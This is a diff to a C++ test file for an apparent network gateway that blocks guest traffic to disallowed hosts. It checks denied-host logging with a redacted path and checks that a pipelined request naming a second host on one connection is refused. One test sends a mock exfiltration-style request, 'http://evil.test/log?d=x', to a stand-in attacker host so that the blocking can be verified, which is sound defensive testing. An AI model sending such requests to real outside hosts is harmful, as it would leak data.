@@ -308,6 +308,11 @@ void TestGatewayProcess::deniedHostNeverReachesUpstream()
     QCOMPARE(responseStatus(plain.readResponse()), 403);
     const QJsonObject event = waitEvent(u"host_not_allowed"_s);
     QCOMPARE(event.value(u"layer"_s).toString(), u"http"_s);
+    QCOMPARE(event.value(u"host"_s).toString(), u"evil.test"_s);
+    QCOMPARE(event.value(u"name"_s).toString(), u"evil.test"_s);
+    QCOMPARE(event.value(u"method"_s).toString(), u"GET"_s);
+    QCOMPARE(event.value(u"path"_s).toString(), u"/log"_s); // "?d=x" redacted
+    QCOMPARE(event.value(u"status"_s).toInt(), 403);
     GuestConnection proxy;
     QVERIFY(proxy.connectTcp(QHostAddress(kLinkGateway), 3128));
     QVERIFY(proxy.write(get(u"http://evil.test/log?d=x"_s, u"evil.test"_s)));
@@ -369,6 +374,19 @@ void TestGatewayProcess::plainHttpPort80()
     const QJsonObject event = waitEvent(u"allowed"_s, u"http"_s);
     QCOMPARE(event.value(u"port"_s).toInt(), 80);
     QCOMPARE(event.value(u"path"_s).toString(), u"/plain"_s);
+
+    // Pipelined requests come back in order; a later request for another host on the same
+    // plain connection is refused (one name per connection), and nothing of it goes upstream.
+    GuestConnection again;
+    QVERIFY(again.connectTcp(kUnroutedAddress, 80));
+    QVERIFY(again.write(get(u"/one"_s, u"pkg.test"_s) + get(u"/two"_s, u"pkg.test"_s)));
+    QCOMPARE(responseBody(again.readResponse()), QByteArray("hello pkg.test /one\n"));
+    QCOMPARE(responseBody(again.readResponse()), QByteArray("hello pkg.test /two\n"));
+    QVERIFY(again.write(get(u"/three"_s, u"wrongcert.test"_s)));
+    QCOMPARE(responseStatus(again.readResponse()), 421);
+    QVERIFY(again.readUntilClosed(nullptr));
+    QVERIFY(!waitEvent(u"host_mismatch"_s).isEmpty());
+    QCOMPARE(m_pkgPlain.requests().size(), before + 3);
 }
 
 void TestGatewayProcess::explicitProxy()
